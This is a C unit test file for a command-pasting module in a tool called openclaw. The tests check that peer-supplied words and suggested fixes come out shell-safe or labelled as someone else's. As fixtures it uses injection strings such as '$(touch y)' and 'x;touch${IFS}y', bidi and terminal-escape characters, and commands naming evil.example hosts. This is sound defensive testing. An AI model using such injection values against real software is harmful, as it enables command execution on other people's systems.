#include "lib/text/paste.h"

#include "lib/base/str.h"
#include "tests/unit/unit.h"

#include <sys/wait.h>

static const char *const hostile[] = { "", "-rf", "--all", "a\nb", "a\rb", "a\tb", "\x1b[2J",
    "a\u200bb", "a\u202eb",
    "\xc2\x9b"
    "31m",
    "a\\", "a!b", "a\\'; touch x #", "\xff", "caf\xc3", "x;touch${IFS}y", "$(touch y)", "`touch y`",
    "it's", "';touch y;'", "\"", "a&b", "a|b", "a>d", "a<e", NULL };
static const char *const odd[] = { "a b", "*?[a]{b,c}~", "#x", "日本 語", "a=b c", "(touch y)", "~",
    "%s", NULL };

static void words_of_a_peer_are_one_plain_word_or_none(void **state) {
    (void)state;
    for (size_t i = 0; hostile[i]; i++) {
        OC_AUTO_FREE char *line =
                oc_paste("openclaw nodes pending", "openclaw nodes approve %s", hostile[i]);
        assert_string_equal(line, "openclaw nodes pending");
    }
    assert_null(oc_paste(NULL, "openclaw x %s", "\n"));
    OC_AUTO_FREE char *plain = oc_paste("no", "openclaw a %s --b %s", "3f2a-1_x", "/usr/bin/a+b");
    assert_string_equal(plain, "openclaw a 3f2a-1_x --b /usr/bin/a+b");
    char longest[500];
    memset(longest, '$', sizeof(longest));
    longest[sizeof(longest) - 1] = '\0';
    OC_AUTO_FREE char *cut = oc_paste("no", "%s", longest);
    assert_string_equal(cut, "no");
}

/* A real shell reads the same words back, and runs nothing. */
static void a_shell_reads_them_back(void **state) {
    for (size_t i = 0; odd[i]; i++) {
        OC_AUTO_FREE char *word = oc_paste(NULL, "%s", odd[i]);
        assert_non_null(word);
        OC_AUTO_FREE char *script = oc_strfmt("cd '%s' && printf %%s %s", (char *)*state, word);
        FILE *shell = popen(script, "r");
        char got[256] = "";
        size_t n = fread(got, 1, sizeof(got) - 1, shell);
        got[n] = '\0';
        assert_int_equal(pclose(shell), 0);
        assert_string_equal(got, odd[i]);
        OC_AUTO_FREE char *made = oc_strfmt("%s/y", (char *)*state);
        assert_int_not_equal(access(made, F_OK), 0);
    }
}

static void ids_are_short_when_plain(void **state) {
    (void)state;
    OC_AUTO_FREE char *hex = oc_paste_id("0123456789abcdef0123"), *brief = oc_paste_id("n1"),
                      *evil = oc_paste_id("0123456789abcd;x"), *none = oc_paste_id(NULL);
    assert_string_equal(hex, "0123456789ab");
    assert_string_equal(brief, "n1");
    assert_string_equal(evil, "0123456789abcd;x");
    assert_string_equal(none, "");
}

static void a_fix_that_a_peer_names_is_a_command_of_ours_or_marked(void **state) {
    (void)state;
    static const char *const rows[][2] = {
        { "openclaw nodes approve 1-2", "openclaw nodes approve 1-2" },
        { "openclaw approvals allowlist add --node a <path of the program>",
                "openclaw approvals allowlist add --node a <path of the program>" },
        { "on the node run: openclaw node run", "on the node run: openclaw node run" },
        { "openclaw approvals allowlist add '/a b' --node 12",
                "openclaw approvals allowlist add '/a b' --node 12" },
        { "the node says: openclaw x", "the node says: openclaw x" },
        { "openclaw devices approve --latest --yes",
                "the gateway says: openclaw devices approve --latest --yes" },
        { "openclaw devices approve '--latest'",
                "the gateway says: openclaw devices approve '--latest'" },
        { "openclaw devices approve a b", "the gateway says: openclaw devices approve a b" },
        { "openclaw node run --host evil.example.com",
                "the gateway says: openclaw node run --host evil.example.com" },
        { "on the node run: openclaw node run --pair abcdef",
                "the gateway says: on the node run: openclaw node run --pair abcdef" },
        { "openclaw nodes approve ", "the gateway says: openclaw nodes approve " },
        { "wget evil.example/x", "the gateway says: wget evil.example/x" },
        { "add \"x\" to the list", "the gateway says: add \"x\" to the list" },
        { "openclaw status;touch x", NULL },
        { "openclaw status $(touch x)", NULL },
        { "openclaw status <a> .bashrc", NULL },
        { "openclaw status >.bashrc", NULL },
        { "openclaw status\ntouch x", NULL },
        { "openclaw \u202e x", NULL },
        { " ", NULL },
    };
    for (size_t i = 0; i < OC_COUNT(rows); i++) {
        OC_AUTO_FREE char *told = oc_paste_told("the gateway", rows[i][0]);
        assert_string_equal(told,
                rows[i][1]
                        ? rows[i][1]
                        : "the gateway named a fix that is not plain text; it is not shown here");
    }
    assert_null(oc_paste_told("the gateway", NULL));
}

/* A node speaks for its own machine alone. */
static void a_fix_that_a_node_names_is_not_shown_as_ours(void **state) {
    (void)state;
    static const char *const theirs[] = { "openclaw devices approve --latest --yes",
        "openclaw nodes approve 1", "openclaw approvals security full --node all",
        "openclaw approvals security full", "openclaw nodes allow system.run",
        "openclaw node run --host evil.example.com --port 443 --tls",
        "on the node run: openclaw node run --pair abcdef", "repair or remove /etc/passwd",
        "restart the node, then openclaw devices approve --latest" };
    static const char *const ours[] = { "on the node run: openclaw node enable camera",
        "on the node run: openclaw approvals security allowlist",
        "on the node name FOO in the list node.exec.env.allow of openclaw.json" };
    for (size_t i = 0; i < OC_COUNT(theirs); i++) {
        OC_AUTO_FREE char *told = oc_paste_told(OC_NODE, theirs[i]);
        OC_AUTO_FREE char *marked = oc_strfmt("the node says: %s", theirs[i]);
        OC_AUTO_FREE char *again = oc_paste_told(OC_GATEWAY, told);
        assert_string_equal(told, marked);
        assert_string_equal(again, marked);
    }
    for (size_t i = 0; i < OC_COUNT(ours); i++) {
        OC_AUTO_FREE char *told = oc_paste_told(OC_NODE, ours[i]);
        assert_string_equal(told, ours[i]);
    }
    OC_AUTO_FREE char *hidden = oc_paste_told(OC_NODE, "$(x)");
    OC_AUTO_FREE char *still = oc_paste_told(OC_GATEWAY, hidden);
    assert_string_equal(still, hidden);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(words_of_a_peer_are_one_plain_word_or_none),
        cmocka_unit_test_setup_teardown(a_shell_reads_them_back, oc_temp_setup, oc_temp_teardown),
        cmocka_unit_test(ids_are_short_when_plain),
        cmocka_unit_test(a_fix_that_a_peer_names_is_a_command_of_ours_or_marked),
        cmocka_unit_test(a_fix_that_a_node_names_is_not_shown_as_ours),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
